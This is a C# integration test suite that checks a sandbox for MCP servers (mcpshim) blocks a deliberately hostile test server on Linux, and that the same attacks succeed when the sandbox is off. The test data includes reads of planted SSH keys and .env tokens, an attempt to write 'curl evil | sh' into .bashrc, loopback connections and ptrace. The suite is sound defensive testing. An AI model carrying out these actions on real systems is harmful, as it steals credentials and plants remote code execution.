using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text.Json.Nodes;
using McpShim.IntegrationTests.Infrastructure;
using ModelContextProtocol.Client;
using ModelContextProtocol.Protocol;

namespace McpShim.IntegrationTests;

/// <summary>
/// Mode local's host sandbox (issue 16) with the published binary: real servers on this host pass the protocol
/// through mcpshim, and a server that does what a compromised one would is refused by the kernel. Every attack is
/// also made unsandboxed (<c>"unsafe": ["unsandboxed"]</c>), where it succeeds: these tests run as root in CI, and
/// root reads any file whatever its mode, so a refusal proves the sandbox did it, not the file's permissions.
/// </summary>
public sealed class SandboxSpecs : IAsyncLifetime
{
    private ShimSandbox _sandbox = null!;
    private string _home = null!;

    public async Task InitializeAsync()
    {
        _sandbox = await ShimSandbox.CreateAsync(needsImage: false);
        // A fake home, so the secrets below are planted where the sandbox must keep the server away from.
        _home = Directory.CreateDirectory(Path.Combine(_sandbox.Folder, "home")).FullName;
        Directory.CreateDirectory(Path.Combine(_home, ".ssh"));
        File.WriteAllText(Path.Combine(_home, ".ssh", "id_rsa"), "-----BEGIN FAKE PRIVATE KEY-----");
        File.WriteAllText(Path.Combine(_home, ".bashrc"), "# planted\n");
        Directory.CreateDirectory(Path.Combine(_home, "projects", "demo", "src"));
        File.WriteAllText(Path.Combine(_home, "projects", "demo", "readme.md"), "demo project");
        File.WriteAllText(Path.Combine(_home, "projects", "demo", ".env"), "API_TOKEN=planted-token");
        File.WriteAllText(Path.Combine(_home, "projects", "demo", ".mcpignore"), ".env\n");
        File.WriteAllText(Path.Combine(_home, "projects", "outside.txt"), "next to the project, not in it");
        File.CreateSymbolicLink(Path.Combine(_home, "projects", "demo", "key-link"), Path.Combine(_home, ".ssh", "id_rsa"));
    }

    public async Task DisposeAsync() => await _sandbox.DisposeAsync();

    private string Project => Path.Combine(_home, "projects", "demo");

    private Dictionary<string, string?> Environment => new() { ["HOME"] = _home, ["XDG_CONFIG_HOME"] = null, ["XDG_STATE_HOME"] = null };

    [HostSandboxFact(Timeout = 120_000)]
    public async Task I_can_use_the_everything_server_sandboxed_on_this_host_and_the_unenforced_limits_are_said_once()
    {
        var profile = _sandbox.AddProfile("everything-local", new JsonObject
        {
            ["mode"] = "local",
            ["command"] = new JsonArray(ReferenceServers.Everything, "stdio"),
        });
        var stderr = new ConcurrentQueue<string>();

        await using (var session = await _sandbox.ConnectAsync(profile, stderr: stderr, environment: Environment))
        {
            var tools = await session.Client.ListToolsAsync();
            Assert.Contains(tools, t => t.Name == "echo");
            Assert.Equal("Echo: from the sandbox", await session.EchoAsync("from the sandbox"));
            var sum = await session.Client.CallToolAsync("get-sum", new Dictionary<string, object?> { ["a"] = 2, ["b"] = 3 });
            Assert.Contains("5", ShimSession.TextOf(sum), StringComparison.Ordinal);
            Assert.NotEmpty(await session.Client.ListResourcesAsync());
            Assert.NotEmpty(await session.Client.ListPromptsAsync());
        }

        var notEnforced = stderr.Where(l => l.Contains("sandbox: not enforced here", StringComparison.Ordinal)).ToList();
        if (System.Environment.GetEnvironmentVariable("XDG_RUNTIME_DIR") is { Length: > 0 } runtime && File.Exists(Path.Combine(runtime, "bus")))
            Assert.Empty(notEnforced);
        else
            Assert.Contains("cpus 1 and pids 256 not at all", Assert.Single(notEnforced), StringComparison.Ordinal);
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task I_can_read_and_write_my_project_with_the_filesystem_server_sandboxed_but_not_its_ignored_env_file()
    {
        var profile = _sandbox.AddProfile("filesystem-local", new JsonObject
        {
            ["mode"] = "local",
            ["command"] = new JsonArray(ReferenceServers.Filesystem, Project),
            ["volumes"] = new JsonArray(new JsonObject { ["host"] = Project, ["readOnly"] = false }),
        });

        await using var session = await _sandbox.ConnectAsync(profile, environment: Environment);
        var listed = await CallAsync(session, "list_directory", new() { ["path"] = Project });
        var written = await CallAsync(session, "write_file", new() { ["path"] = Path.Combine(Project, "src", "notes.md"), ["content"] = "written from the sandbox" });
        var read = await CallAsync(session, "read_text_file", new() { ["path"] = Path.Combine(Project, "src", "notes.md") });
        var secret = await CallAsync(session, "read_text_file", new() { ["path"] = Path.Combine(Project, ".env") });

        Assert.True(listed.IsError != true, ShimSession.TextOf(listed));
        Assert.Contains("readme.md", ShimSession.TextOf(listed), StringComparison.Ordinal);
        Assert.True(written.IsError != true, ShimSession.TextOf(written) + "\n" + session.Stderr);
        Assert.Equal("written from the sandbox", File.ReadAllText(Path.Combine(Project, "src", "notes.md")));
        Assert.Equal("written from the sandbox", ShimSession.TextOf(read));
        Assert.True(secret.IsError == true, ShimSession.TextOf(secret));
        Assert.Contains("EACCES", ShimSession.TextOf(secret), StringComparison.Ordinal);
        Assert.DoesNotContain("planted-token", ShimSession.TextOf(secret), StringComparison.Ordinal);
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task A_hostile_server_cannot_read_ssh_keys_write_bashrc_connect_to_loopback_or_ptrace_and_can_all_of_it_unsandboxed()
    {
        var sandboxed = AddHostile("hostile", unsandboxed: false);
        var open = AddHostile("hostile-open", unsandboxed: true);
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        using var victim = Process.Start(new ProcessStartInfo("sleep", "120") { UseShellExecute = false })!;
        try
        {
            var key = Path.Combine(_home, ".ssh", "id_rsa");
            var bashrc = Path.Combine(_home, ".bashrc");
            var attacks = new (string Tool, Dictionary<string, object?> Arguments)[]
            {
                ("read", new() { ["path"] = key }),
                ("write", new() { ["path"] = bashrc, ["text"] = "curl evil | sh\n" }),
                ("connect", new() { ["port"] = port }),
                ("ptrace", new() { ["pid"] = victim.Id }),
            };

            await using (var session = await _sandbox.ConnectAsync(sandboxed, environment: Environment))
            {
                foreach (var (tool, arguments) in attacks)
                {
                    var result = await CallAsync(session, tool, arguments);
                    Assert.True(result.IsError == true, $"{tool} succeeded inside the sandbox: {ShimSession.TextOf(result)}");
                    Assert.Matches("^(EACCES|EPERM): ", ShimSession.TextOf(result));
                }
            }

            Assert.Equal("# planted\n", File.ReadAllText(bashrc));

            await using (var session = await _sandbox.ConnectAsync(open, environment: Environment))
            {
                var results = new List<string>();
                foreach (var (tool, arguments) in attacks)
                {
                    var result = await CallAsync(session, tool, arguments);
                    Assert.True(result.IsError != true, $"{tool} failed unsandboxed, so the sandboxed refusal proves nothing: {ShimSession.TextOf(result)}");
                    results.Add(ShimSession.TextOf(result));
                }

                Assert.Equal(["-----BEGIN FAKE PRIVATE KEY-----", "wrote 15 bytes", "connected", "attached"], results);
            }
        }
        finally
        {
            victim.Kill();
            listener.Stop();
        }
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task The_separate_launcher_is_published_beside_mcpshim_and_either_launcher_named_keeps_the_ssh_key_out_of_reach()
    {
        var launcher = Path.Combine(Path.GetDirectoryName(ShimBinary.Path)!, "mcpshim-sandbox");
        Assert.True(File.Exists(launcher), $"{launcher} is missing: ./build.sh publish puts it beside mcpshim");
        // A launcher named by MCPSHIM_SANDBOX_LAUNCHER, which notes that it ran and hands over to the real one.
        var marker = Path.Combine(_home, "..", "launcher-ran");
        var wrapper = Path.Combine(_home, "..", "launcher-wrapper");
        File.WriteAllText(wrapper, $"#!/bin/sh\necho ran > '{marker}'\nexec '{launcher}' \"$@\"\n");
        File.SetUnixFileMode(wrapper, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var sandboxed = AddHostile("hostile-launchers", unsandboxed: false);
        var key = Path.Combine(_home, ".ssh", "id_rsa");

        foreach (var chosen in new[] { wrapper, "self" })
        {
            var environment = new Dictionary<string, string?>(Environment) { ["MCPSHIM_SANDBOX_LAUNCHER"] = chosen };
            await using var session = await _sandbox.ConnectAsync(sandboxed, environment: environment);
            var result = await CallAsync(session, "read", new() { ["path"] = key });
            Assert.True(result.IsError == true, $"the key was read inside the sandbox started by {chosen}: {ShimSession.TextOf(result)}");
            Assert.Matches("^(EACCES|EPERM): ", ShimSession.TextOf(result));
        }

        Assert.Equal("ran", File.ReadAllText(marker).Trim());
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task A_hostile_server_cannot_leave_its_volume_by_symlink_or_dotdot_nor_write_a_read_only_one_and_gets_a_private_scratch_home()
    {
        var profile = AddHostile("hostile-volume", unsandboxed: false, p => p["volumes"] = new JsonArray(new JsonObject { ["host"] = Project }));

        await using var session = await _sandbox.ConnectAsync(profile, environment: Environment);
        var readme = await CallAsync(session, "read", new() { ["path"] = Path.Combine(Project, "readme.md") });
        var env = await CallAsync(session, "read", new() { ["path"] = Path.Combine(Project, ".env") });
        var link = await CallAsync(session, "read", new() { ["path"] = Path.Combine(Project, "key-link") });
        var dotdot = await CallAsync(session, "read", new() { ["path"] = Project + "/../outside.txt" });
        var readOnly = await CallAsync(session, "write", new() { ["path"] = Path.Combine(Project, "src", "new.txt"), ["text"] = "x" });
        var listing = await CallAsync(session, "list", new() { ["path"] = Project });
        var where = await CallAsync(session, "environment", []);
        var scratch = System.Text.Json.JsonDocument.Parse(ShimSession.TextOf(where)).RootElement.GetProperty("HOME").GetString()!;
        var scratchWrite = await CallAsync(session, "write", new() { ["path"] = Path.Combine(scratch, "cache.txt"), ["text"] = "mine" });

        Assert.Equal("demo project", ShimSession.TextOf(readme));
        foreach (var (what, result) in new[] { ("the ignored .env", env), ("a symlink to ~/.ssh/id_rsa", link), ("../outside.txt", dotdot), ("a read-only volume", readOnly) })
        {
            Assert.True(result.IsError == true, $"{what}: {ShimSession.TextOf(result)}");
            Assert.StartsWith("EACCES: ", ShimSession.TextOf(result), StringComparison.Ordinal);
        }

        Assert.Contains("readme.md", ShimSession.TextOf(listing), StringComparison.Ordinal);
        Assert.StartsWith(Path.Combine(Path.GetTempPath(), "mcpshim-sandbox-"), scratch, StringComparison.Ordinal);
        Assert.True(scratchWrite.IsError != true, ShimSession.TextOf(scratchWrite));
        Assert.False(File.Exists(Path.Combine(Project, "src", "new.txt")));
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task A_descriptor_the_client_left_open_does_not_reach_the_sandboxed_server()
    {
        var profile = AddHostile("hostile-fds", unsandboxed: false);
        var frames = """
            {"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}
            {"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list","arguments":{"path":"/proc/self/fd"}}}

            """;

        // The client's shell holds ~/.ssh/id_rsa open on descriptor 7, without close-on-exec, as it starts mcpshim.
        var result = await ProcessRunner.RunAsync("/bin/sh", ["-c", "exec 7<\"$0\"; exec \"$@\"", Path.Combine(_home, ".ssh", "id_rsa"), ShimBinary.Path, profile],
            _sandbox.Environment.Concat(Environment).ToDictionary(), stdin: frames, timeout: TimeSpan.FromSeconds(60));

        var listing = result.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(line => System.Text.Json.JsonDocument.Parse(line).RootElement)
            .Single(frame => frame.GetProperty("id").GetInt32() == 2)
            .GetProperty("result").GetProperty("content")[0].GetProperty("text").GetString()!;
        // 0-2 are stdio; 3 is the listing's own descriptor.
        Assert.Equal(["0", "1", "2", "3"], listing.Split('\n'));
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task Mcpshim_test_probes_the_sandbox_from_inside_and_fails_an_unsandboxed_profile_on_purpose()
    {
        var sandboxed = AddHostile("probe", unsandboxed: false);
        var open = AddHostile("probe-open", unsandboxed: true);

        var passed = await ProcessRunner.RunAsync(ShimBinary.Path, ["test", sandboxed], _sandbox.Environment.Concat(Environment).ToDictionary(), timeout: TimeSpan.FromSeconds(90));
        var failed = await ProcessRunner.RunAsync(ShimBinary.Path, ["test", open], _sandbox.Environment.Concat(Environment).ToDictionary(), timeout: TimeSpan.FromSeconds(90));

        Assert.True(passed.ExitCode == 0, passed.ToString());
        Assert.Matches($@"(?m)^{sandboxed} +hardening +sandbox on +pass +- +Landlock \+ seccomp, Landlock ABI \d+, network none$", passed.Stdout);
        foreach (var check in new[] { "home folder and ~/.ssh unreadable", "no writes outside its folders", "no TCP connection", "no Unix sockets \\(docker.sock, ssh-agent\\)", "no privilege gain, ptrace or namespaces" })
            Assert.Matches($@"(?m)^{sandboxed} +hardening +{check} +pass ", passed.Stdout);
        Assert.Contains("NoNewPrivs 1, Seccomp 2", passed.Stdout, StringComparison.Ordinal);
        Assert.Equal(1, failed.ExitCode);
        Assert.Matches($@"(?m)^{open} +hardening +sandbox on +FAIL +- +the profile runs its server on this host without the sandbox", failed.Stdout);
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task Doctor_reports_the_Landlock_ABI_seccomp_systemd_run_and_which_local_profiles_run_unsandboxed()
    {
        var sandboxed = AddHostile("doctor", unsandboxed: false);
        var open = AddHostile("doctor-open", unsandboxed: true);

        var result = await ProcessRunner.RunAsync(ShimBinary.Path, ["doctor"], _sandbox.Environment.Concat(Environment).ToDictionary(), timeout: TimeSpan.FromSeconds(90));

        Assert.Matches($@"(?m)^(ok  |warn)  sandbox +Landlock ABI \d+ and seccomp filters: local profiles run sandboxed \(used by {sandboxed}\)", result.Stdout);
        Assert.Matches(@"(?m)^(ok  |warn)  sandbox limits +systemd-run --user", result.Stdout);
        Assert.Matches($@"(?m)^warn  sandbox +{open} run\(s\) on this host without the sandbox .*Fix: remove the word to sandbox it", result.Stdout);
        var launcher = Path.Combine(Path.GetDirectoryName(ShimBinary.Path)!, "mcpshim-sandbox");
        Assert.Matches($@"(?m)^ok    sandbox launcher +{System.Text.RegularExpressions.Regex.Escape(launcher)}, from this build$", result.Stdout);
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task Doctor_fails_a_launcher_from_another_build_naming_the_fix()
    {
        // What the launcher of the build before says to this build's rules (it read them as its NUL-separated words).
        var stale = Path.Combine(_home, "..", "stale-launcher");
        File.WriteAllText(stale, "#!/bin/sh\ncat > /dev/null\necho \"mcpshim: sandbox: the launcher and mcpshim come from different builds (the rules are not in its format); the server was not started.\" >&2\nexit 69\n");
        File.SetUnixFileMode(stale, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var environment = _sandbox.Environment.Concat(Environment).ToDictionary();
        environment["MCPSHIM_SANDBOX_LAUNCHER"] = stale;

        var result = await ProcessRunner.RunAsync(ShimBinary.Path, ["doctor"], environment, timeout: TimeSpan.FromSeconds(90));

        Assert.Matches(@"(?m)^FAIL  sandbox launcher +.*stale-launcher cannot run this build's rules: .*different builds", result.Stdout);
        Assert.Contains("install mcpshim-sandbox from the same build beside mcpshim", result.Stdout, StringComparison.Ordinal);
    }

    [HostSandboxFact(Timeout = 120_000)]
    public async Task A_renamed_mcpshim_alone_still_launches_sandboxed_servers_through_itself_and_doctor_says_so()
    {
        var renamed = Path.Combine(_home, "..", "mcpshim-linux-x64");
        File.Copy(ShimBinary.Path, renamed, overwrite: true);
        var sandboxed = AddHostile("renamed", unsandboxed: false);
        var environment = _sandbox.Environment.Concat(Environment).ToDictionary();

        var doctor = await ProcessRunner.RunAsync(renamed, ["doctor"], environment, timeout: TimeSpan.FromSeconds(90));
        var frames = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{}}\n" +
                     "{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{\"name\":\"read\",\"arguments\":{\"path\":\"" + Path.Combine(_home, ".ssh", "id_rsa") + "\"}}}\n";
        var session = await ProcessRunner.RunAsync(renamed, [sandboxed], environment, stdin: frames, timeout: TimeSpan.FromSeconds(60));

        Assert.Matches(@"(?m)^warn  sandbox launcher +no mcpshim-sandbox beside .*mcpshim-linux-x64: sandboxed servers start through mcpshim itself", doctor.Stdout);
        Assert.Matches("\"id\": ?2", session.Stdout);
        Assert.Matches("(EACCES|EPERM): ", session.Stdout);
        Assert.DoesNotContain("FAKE PRIVATE KEY", session.Stdout, StringComparison.Ordinal);
    }

    private string AddHostile(string stem, bool unsandboxed, Action<JsonObject>? configure = null)
    {
        var profile = new JsonObject
        {
            ["mode"] = "local",
            ["command"] = new JsonArray(ReferenceServers.Python, ReferenceServers.Hostile),
        };
        if (unsandboxed)
            profile["unsafe"] = new JsonArray("unsandboxed");
        configure?.Invoke(profile);
        return _sandbox.AddProfile(stem, profile);
    }

    private static async Task<CallToolResult> CallAsync(ShimSession session, string tool, Dictionary<string, object?> arguments) =>
        await session.Client.CallToolAsync(tool, arguments);
}
